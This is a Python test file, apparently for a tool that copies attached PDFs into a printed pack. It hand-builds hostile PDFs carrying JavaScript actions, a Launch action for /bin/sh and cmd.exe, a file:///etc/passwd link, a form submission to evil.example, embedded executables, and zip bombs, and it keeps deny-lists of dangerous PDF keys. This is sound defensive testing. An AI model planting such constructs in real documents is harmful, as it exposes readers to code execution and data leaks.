"""Attached PDFs are copied as pages of print only: nothing a viewer could run or open survives,
what is left out is said where the attachment is named, and a bomb or a page of no size stops."""

from __future__ import annotations

import io
import re
import shutil
import zlib
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

from conftest import CONTENT, FUZZ_FACTOR, ContentTree, run_cli
from pdfcheck import outline, page_texts

ATTACH = (
    "paper: letter\nattachments:\n  - {title: Partner flyer, file: flyer.pdf, after: briefing}\n"
)
TEXT = "Partner flyer page 1"


class RawPdf:
    """A PDF written out by hand, byte by byte: what an attacker sends is not limited to what a
    PDF library would write. Object 1 is the catalog, 2 the page tree, 3 the page."""

    def __init__(self) -> None:
        self.objects: dict[int, bytes] = {}
        self.page: list[bytes] = []
        self.catalog: list[bytes] = []
        self.resources: list[bytes] = [b"/Font<</F1 5 0 R>>/XObject<</Fm1 6 0 R>>"]
        self.annots: list[bytes] = []
        # Actions on opening a page or the document, and document JavaScript: one dictionary
        # each (a key written twice is read once).
        self.page_actions: list[bytes] = []
        self.document_actions: list[bytes] = []
        self.scripts: list[bytes] = []
        self.media = b"[0 0 612 792]"
        self.objects[4] = self.stream(
            b"", b"BT /F1 24 Tf 72 700 Td (%s) Tj ET q /Fm1 Do Q" % TEXT.encode()
        )
        self.objects[5] = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
        self.objects[6] = self.stream(
            b"/Type/XObject/Subtype/Form/BBox[0 0 100 100]/Resources<<>>",
            b"0 0 1 rg 72 72 50 50 re f",
        )

    @staticmethod
    def stream(head: bytes, data: bytes) -> bytes:
        return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(data), data)

    def add(self, body: bytes) -> bytes:
        """Add an object; its reference."""
        num = max(self.objects) + 1
        self.objects[num] = body
        return b"%d 0 R" % num

    @staticmethod
    def _actions(triggers: list[bytes], values: list[bytes]) -> bytes:
        pairs = zip(triggers + [b"/X%d" % n for n in range(len(values))], values, strict=False)
        return b"/AA<<%s>>" % b"".join(k + b" " + v for k, v in pairs) if values else b""

    def bytes(self) -> bytes:
        if self.document_actions:
            self.catalog.append(b"/OpenAction " + self.document_actions[0])
            more = self.document_actions[1:]
            self.catalog.append(self._actions([b"/WC", b"/WS", b"/DS", b"/WP"], more))
        if self.scripts:
            named = b" ".join(b"(s%d) %s" % (n, v) for n, v in enumerate(self.scripts))
            self.catalog.append(b"/Names<</JavaScript<</Names[%s]>>>>" % named)
        self.page.append(self._actions([b"/O", b"/C"], self.page_actions))
        self.objects[1] = b"<</Type/Catalog/Pages 2 0 R%s>>" % b"".join(self.catalog)
        self.objects[2] = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
        annots = b"/Annots[%s]" % b" ".join(self.annots) if self.annots else b""
        self.objects[3] = (
            b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<<%s>>%s%s>>"
            % (
                self.media,
                b"".join(self.resources),
                annots,
                b"".join(self.page),
            )
        )
        out = b"%PDF-1.7\n"
        size = max(self.objects) + 1
        offsets = {}
        for num in range(1, size):
            offsets[num] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (num, self.objects.get(num, b"null"))
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, size))
        out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return out


# What a viewer could run or open, each as it might be written, with what `check` calls it.
JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
FILESPEC = b"<</Type/Filespec/F(evil.exe)/EF<</F %s>>>>"
ACTIONS = {
    "javascript": (JS, "JavaScript"),
    "javascript-named-by-reference": (b"<</S %(name)s/JS(app.alert\\(2\\))>>", "JavaScript"),
    "launch": (b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>", "a launch action"),
    "javascript-uri": (b"<</S/URI/URI(javascript:app.alert\\(3\\))>>", "JavaScript"),
    "file-uri": (b"<</S/URI/URI(file:///etc/passwd)>>", "a link"),
    "submit-form": (b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>", "a form"),
    "remote-goto": (b"<</S/GoToR/F(other.pdf)/D[0/Fit]>>", "an action"),
    "rendition": (b"<</S/Rendition/OP 0/JS(app.alert\\(4\\))>>", "JavaScript"),
    "embedded-file": (FILESPEC, "an embedded file"),
}
ANNOT = b"<</Type/Annot/Rect[0 0 9 9]/Subtype"
ANNOTATIONS = {
    "file-attachment": (ANNOT + b"/FileAttachment/FS %(spec)s>>", "a file attachment"),
    "widget": (ANNOT + b"/Widget/FT/Btn/T(f)/AA<</D %(js)s>>>>", "a form"),
    "screen": (ANNOT + b"/Screen/A<</S/Rendition/OP 0>>>>", "multimedia"),
    "rich-media": (ANNOT + b"/RichMedia/RichMediaContent<<>>>>", "multimedia"),
    "3d": (ANNOT + b"/3D/3DD %(stream)s>>", "multimedia"),
    "js-link": (ANNOT + b"/Link/A %(js)s>>", "JavaScript"),
    "link-then-js": (ANNOT + b"/Link/A<</S/URI/URI(https://a.b)/Next %(js)s>>>>", "JavaScript"),
    "stamp-with-action": (ANNOT + b"/Stamp/AA<</PO %(js)s>>>>", "JavaScript"),
}
STREAMS = {
    "postscript": (b"/Type/XObject/Subtype/PS", "PostScript"),
    "external-data": (b"/F(data.bin)", "a reference to another file"),
}
DANGERS = {**ACTIONS, **ANNOTATIONS, **STREAMS}

PAYLOAD = st.sampled_from(sorted(DANGERS))
#: Where a payload can be put so that it is reached from the page (or the document).
PLACES = {
    "page-entry": "any",
    "page-open-action": "action",
    "annotation": "annotation",
    "link-action": "action",
    "resources": "any",
    "form-xobject": "any",
    "nested-array": "any",
    "document-open": "action",
    "document-javascript": "action",
}


def _plant(pdf: RawPdf, name: str, place: str, direct: bool, n: int) -> None:
    """Put the payload `name` at `place` in `pdf` (the n-th planted)."""
    body, _ = DANGERS[name]
    values = {
        b"js": pdf.add(JS),
        b"name": pdf.add(b"/JavaScript"),
        b"spec": pdf.add(FILESPEC % pdf.add(RawPdf.stream(b"/Type/EmbeddedFile", b"MZ\x90\x00"))),
        b"stream": pdf.add(RawPdf.stream(b"/Type/3D/Subtype/U3D", b"U3D")),
    }
    if name in STREAMS:
        value = pdf.add(RawPdf.stream(body, b"%!PS showpage"))
    else:
        if name == "embedded-file":
            body = body % pdf.add(RawPdf.stream(b"/Type/EmbeddedFile", b"MZ\x90\x00"))
        body = body % values if b"%(" in body else body
        value = body if direct else pdf.add(body)
    key = b"/X%d" % n
    if place == "page-entry":
        pdf.page.append(key + b" " + value)
    elif place == "page-open-action":
        pdf.page_actions.append(value)
    elif place == "annotation":
        pdf.annots.append(value if value.endswith(b" R") else pdf.add(value))
    elif place == "link-action":
        pdf.annots.append(pdf.add(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %s>>" % value))
    elif place == "resources":
        pdf.resources.append(
            b"/Properties<</MC%d %s>>" % (n, value) if n == 0 else key + b" " + value
        )
    elif place == "form-xobject":
        pdf.resources[0] = pdf.resources[0].replace(
            b"/Fm1 6 0 R",
            b"/Fm1 6 0 R/Fm%d %s"
            % (
                n + 2,
                pdf.add(
                    RawPdf.stream(
                        b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]%s %s" % (key, value), b""
                    )
                ),
            ),
        )
    elif place == "nested-array":
        pdf.resources.append(key + b"[1[2[%s]]]" % value)
    elif place == "document-open":
        pdf.document_actions.append(value)
    else:
        pdf.scripts.append(value)


def _fits(name: str, place: str) -> bool:
    want = PLACES[place]
    kind = "action" if name in ACTIONS else "annotation" if name in ANNOTATIONS else "stream"
    return want == "any" or want == kind or (want == "annotation" and kind == "stream")


PLANTED = st.lists(
    st.tuples(PAYLOAD, st.sampled_from(sorted(PLACES)), st.booleans()).filter(
        lambda t: _fits(t[0], t[1])
    ),
    min_size=1,
    max_size=5,
)

#: Independently of packbuilder: what must not be in the pack anywhere.
_BAD_KEYS = {
    "/JS", "/JavaScript", "/AA", "/OpenAction", "/Launch", "/EF", "/EmbeddedFiles", "/RF",
    "/RichMediaContent", "/RichMediaSettings", "/3DD", "/AcroForm", "/XFA", "/FT", "/OPI",
    "/Win", "/Unix", "/Mac",
}  # fmt: skip
_BAD_S = {
    "/JavaScript", "/Launch", "/SubmitForm", "/ResetForm", "/ImportData", "/GoToR", "/GoToE",
    "/Rendition", "/Movie", "/Sound", "/RichMediaExecute", "/Hide", "/Named", "/SetOCGState",
}  # fmt: skip
_BAD_TYPES = {"/EmbeddedFile", "/Filespec", "/3D", "/Sound", "/Movie"}
_BAD_SUBTYPES = {
    "/FileAttachment", "/Widget", "/Screen", "/Movie", "/Sound", "/3D", "/RichMedia", "/PS", "/U3D",
}  # fmt: skip
_PLAIN = re.compile(r"(?:https?://|mailto:)[!-~]+", re.IGNORECASE)


def dangers_in(path: Path) -> list[str]:
    """Everything in the PDF at `path` that a viewer could run or open, object by object (every
    object in the file, whether any page refers to it or not)."""
    reader = PdfReader(str(path))
    found: list[str] = []

    def visit(value: object, where: str) -> None:
        if isinstance(value, IndirectObject):
            return  # visited as an object of its own
        if isinstance(value, DictionaryObject):
            for key, item in value.items():
                if key in _BAD_KEYS:
                    found.append(f"{where}: {key}")
                visit(item, where)
            if value.get("/S") in _BAD_S or value.get("/Type") in _BAD_TYPES:
                found.append(f"{where}: {value.get('/S') or value.get('/Type')}")
            if value.get("/Subtype") in _BAD_SUBTYPES:
                found.append(f"{where}: {value['/Subtype']}")
            if "/S" in value and "/Next" in value:  # an action that runs another after it
                found.append(f"{where}: /Next")
            if isinstance(value, StreamObject) and "/F" in value:
                found.append(f"{where}: stream data in another file")
            uri = value.get("/URI")
            if uri is not None and not (isinstance(uri, str) and _PLAIN.fullmatch(uri)):
                found.append(f"{where}: link to {uri!r}")
        elif isinstance(value, ArrayObject):
            for item in value:
                visit(item, where)

    for num in range(1, int(reader.trailer["/Size"])):
        obj = reader.get_object(num)
        visit(obj, f"object {num}")
    return found


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The default content with a partner flyer attached after the briefing."""
    folder = tmp_path_factory.mktemp("hostile") / "content"
    shutil.copytree(CONTENT, folder)
    path = folder / "campaign.yaml"
    path.write_text(path.read_text("utf-8").replace("paper: letter\n", ATTACH, 1), "utf-8")
    assert ATTACH in path.read_text("utf-8")
    return folder


@settings(
    max_examples=12 * FUZZ_FACTOR,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    # A pack is built per example: shrinking a failure would take many minutes, and the
    # example hypothesis prints is small already (at most five things planted).
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
)
@given(planted=PLANTED)
# Always tried: JavaScript run when the file opens (/OpenAction in the catalog) and as document
# JavaScript, whatever the seeded examples draw.
@example(planted=[("javascript", "document-open", False), ("launch", "document-javascript", True)])
def test_nothing_a_viewer_could_run_or_open_reaches_the_pack(
    campaign: Path, planted: list[tuple[str, str, bool]]
) -> None:
    pdf = RawPdf()
    for n, (name, place, direct) in enumerate(planted):
        _plant(pdf, name, place, direct, n)
    (campaign / "flyer.pdf").write_bytes(pdf.bytes())
    out = campaign.parent / "pack.pdf"
    result = run_cli("build", str(campaign), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert dangers_in(out) == []
    flyer = next(e.page for e in outline(out) if e.title == "Partner flyer")
    assert TEXT in page_texts(out)[flyer]
    warning = next(line for line in result.output.splitlines() if "flyer.pdf" in line)
    assert re.match(r"^.*campaign\.yaml:\d+:\d+: attachments\[1\]\.file: warning: ", warning)
    for name, place, _ in planted:
        if not place.startswith("document") or name in ACTIONS:
            assert DANGERS[name][1] in warning, (name, place, warning)


def _flyer(path: Path) -> None:
    """A clean flyer as a design program makes one: text, shapes, an image, a web link."""
    from PIL import Image
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen.canvas import Canvas

    canvas = Canvas(str(path), pagesize=(595.28, 841.89), invariant=1)
    canvas.setFillColorRGB(0.8, 0.1, 0.1)
    canvas.rect(40, 600, 300, 120, fill=1)
    canvas.setFillColorRGB(0, 0, 0)
    canvas.setFont("Helvetica-Bold", 28)
    canvas.drawString(60, 750, "Write for their freedom")
    image = Image.new("RGB", (64, 64))
    image.putdata([(x * 4, y * 4, 128) for y in range(64) for x in range(64)])
    canvas.drawImage(ImageReader(image), 60, 300, 200, 200)
    canvas.drawString(60, 200, "https://partner.example/act")
    canvas.linkURL("https://partner.example/act", (60, 190, 400, 230))
    canvas.linkURL("mailto:drive@partner.example", (60, 150, 400, 180))
    canvas.showPage()
    canvas.save()


def _pixels(path: Path, index: int) -> bytes:
    pdf = pdfium.PdfDocument(str(path))
    try:
        return bytes(pdf[index].render(scale=1).to_pil().tobytes())
    finally:
        pdf.close()


def test_a_clean_attachment_prints_the_same_and_keeps_its_links(
    content_tree: ContentTree, tmp_path: Path
) -> None:
    folder = content_tree(**{"campaign.yaml": [("paper: letter\n", ATTACH)]})
    _flyer(folder / "flyer.pdf")
    out = tmp_path / "p.pdf"
    result = run_cli("build", str(folder), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "flyer.pdf" not in result.output  # nothing left out, nothing to say
    flyer = next(e.page for e in outline(out) if e.title == "Partner flyer")
    assert _pixels(out, flyer) == _pixels(folder / "flyer.pdf", 0)
    page = PdfReader(str(out)).pages[flyer]
    links = [a.get_object()["/A"]["/URI"] for a in page["/Annots"]]
    assert links == ["https://partner.example/act", "mailto:drive@partner.example"]


def _bomb_stream(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    zeros = bytes(1 << 20)
    data = b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()
    return RawPdf.stream(b"/Filter/FlateDecode", data)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ("bomb", "inflate to more than 256 MB"),
        ("media-0x0", "page 1's MediaBox is 0 x 0 pt: a page of no size"),
        ("media-huge", "page 1's MediaBox is 1e+09 x 792 pt: larger than any paper"),
        ("crop-0x0", "page 1's CropBox is 612 x 0 pt: a page of no size"),
        ("media-text", "page 1's MediaBox is not four numbers"),
        ("huge-jpeg", "an image of 60,000 x 60,000 pixels, more than 256 MB once decoded"),
        ("empty-file", "not a readable PDF"),
        ("encrypted", "the PDF is password-protected; attach a copy saved without a password"),
        ("encrypted-no-password", "the PDF is password-protected"),
    ],
)
def test_a_bomb_or_a_page_of_no_size_is_a_located_error(
    content_tree: ContentTree, tmp_path: Path, edit: str, message: str
) -> None:
    pdf = RawPdf()
    if edit == "bomb":  # a 64 MB stream of zeros, five times over: 320 MB from 300 KB
        data = _bomb_stream(64)
        pdf.resources.append(b"".join(b"/B%d %s" % (n, pdf.add(data)) for n in range(5)))
    elif edit == "media-0x0":
        pdf.media = b"[0 0 0 0]"
    elif edit == "media-huge":
        pdf.media = b"[0 0 1000000000 792]"
    elif edit == "crop-0x0":
        pdf.page.append(b"/CropBox[0 0 612 0]")
    elif edit == "huge-jpeg":  # small as a file; 3.6 GB for whatever draws it
        head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray"
        jpeg = pdf.add(RawPdf.stream(head + b"/BitsPerComponent 8/Filter/DCTDecode", b"\xff"))
        pdf.resources.append(b"/Photo " + jpeg)
    elif edit == "media-text":
        pdf.media = b"[0 0 (a4) 792]"
    folder = content_tree(**{"campaign.yaml": [("paper: letter\n", ATTACH)]})
    data = b"" if edit == "empty-file" else pdf.bytes()
    if edit.startswith("encrypted"):  # a password to open it, or (as many flyers) only to edit
        writer = PdfWriter(clone_from=io.BytesIO(data))
        writer.encrypt("" if edit.endswith("no-password") else "open", "edit", algorithm="RC4-128")
        written = io.BytesIO()
        writer.write(written)
        data = written.getvalue()
    (folder / "flyer.pdf").write_bytes(data)
    out = tmp_path / "p.pdf"
    for command in ("check", "build"):
        result = run_cli(command, str(folder), *(["-o", str(out)] if command == "build" else []))
        assert result.exit_code == 1, result.output
        line = next(x for x in result.output.splitlines() if "flyer.pdf" in x)
        assert re.match(r"^.*campaign\.yaml:\d+:\d+: attachments\[1\]\.file: flyer\.pdf: ", line)
        assert message in line
    assert not out.exists()


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_an_attachment_that_is_not_a_regular_file_is_refused(
    content_tree: ContentTree, tmp_path: Path, kind: str
) -> None:
    import os

    folder = content_tree(**{"campaign.yaml": [("paper: letter\n", ATTACH)]})
    if kind == "fifo":
        os.mkfifo(folder / "flyer.pdf")
    elif kind == "device":
        (folder / "flyer.pdf").symlink_to("/dev/zero")
    else:
        (folder / "flyer.pdf").mkdir()
    result = run_cli("check", str(folder))
    assert result.exit_code == 1
    assert "attachments[1].file" in result.output
